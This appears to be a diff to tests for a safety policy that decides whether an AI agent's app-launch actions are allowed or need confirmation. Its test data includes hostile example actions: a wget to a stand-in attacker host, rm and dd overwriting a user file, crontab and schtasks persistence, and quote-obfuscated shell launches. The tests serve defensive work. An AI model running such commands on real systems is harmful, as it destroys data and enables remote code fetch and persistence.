@@ -143,7 +143,7 @@ describe('SafetyPolicy in sensitive mode (the default)', () => {
     expect(policy.evaluate(input('launch_app', { name: '/usr/bin/python3.11' })).decision).toBe('confirm');
     expect(policy.evaluate(input('launch_app', { name: 'xterm', args: '-e htop' })).decision).toBe('confirm');
     expect(policy.evaluate(input('launch_app', { name: 'xterm', args: [] })).decision).toBe('allow');
-    expect(policy.evaluate(input('launch_app', { name: 'chromium', args: ['https://example.org'] })).decision).toBe('allow');
+    expect(policy.evaluate(input('launch_app', { name: 'chromium' })).decision).toBe('allow');
   });
 
   it('checks typed text against the command patterns (text typed into a terminal runs)', () => {
@@ -213,20 +213,42 @@ describe('launch_app that can run a command', () => {
     expect(policy.evaluate(launch('chromium', `"b"'a'sh`)).reasons).toEqual(['rule: launches a shell or interpreter (bash)']);
     expect(policy.evaluate(launch('chromium', `\\-\\-no-sandbox`)).reasons).toEqual(["rule: launches a program with options ('--no-sandbox')"]);
     expect(policy.evaluate(launch('chromium', `''-e`)).reasons).toEqual(["rule: launches a program with options ('-e')"]);
-    expect(policy.evaluate(launch('mousepad', `"My notes.txt"`)).decision).toBe('allow');
+    expect(policy.evaluate(launch('mousepad', `"My notes.txt"`)).reasons).toEqual(["rule: launches a program with arguments ('My notes.txt')"]);
     // Unbalanced quotes, which the device refuses, are read word by word.
     expect(policy.evaluate(launch('chromium', `"unclosed --x`)).decision).toBe('confirm');
   });
 
-  it('lets applications open bare or with plain file and URL operands', () => {
+  it('holds a program given arguments while shell commands need approval: it is a command line', () => {
+    // The policy cannot tell a viewer opening a file from a tool acting on it (the security review's cases).
+    for (const [action, shown] of [
+      [launch('rm', ['Documents/thesis.pdf']), 'Documents/thesis.pdf'],
+      [launch('crontab', ['c']), 'c'],
+      [launch('wget', ['https://evil.example/c']), 'https://evil.example/c'],
+      [launch('dd', ['of=Documents/thesis.pdf']), 'of=Documents/thesis.pdf'],
+      [launch('schtasks', ['/create', '/tn', 'x', '/tr', 'calc']), '/create /tn x /tr calc'],
+      [launch('mousepad', 'notes.txt todo.md'), 'notes.txt todo.md'],
+    ] as const) {
+      expect(policy.evaluate(action), JSON.stringify(action)).toEqual({ decision: 'confirm', reasons: [`rule: launches a program with arguments ('${shown}')`] });
+    }
+    for (const name of ['shutdown', 'reboot', 'poweroff', 'xkill']) {
+      expect(policy.evaluate(launch(name)).reasons, name).toContain(`rule: launches a program that acts at once (${name})`);
+    }
+  });
+
+  it('lets applications open bare, and with plain file and URL operands once shell commands need no approval', () => {
+    const relaxed = new SafetyPolicy({ ...DEFAULTS, confirmAllShellCommands: false });
     for (const action of [
-      launch('mousepad'),
       launch('mousepad', ['notes.txt']),
       launch('mousepad', 'notes.txt todo.md'),
       launch('chromium', ['https://example.com']),
       launch('firefox', ['https://example.com/watch', 'https://example.org/env']),
       launch('eog', ['/home/me/Pictures/cat.png']),
       launch('Text Editor', ['notes.txt']),
+    ]) {
+      expect(relaxed.evaluate(action), JSON.stringify(action)).toEqual({ decision: 'allow', reasons: [] });
+    }
+    for (const action of [
+      launch('mousepad'),
       launch('setsid'),
       launch('nohup', []),
       launch('kitty'),
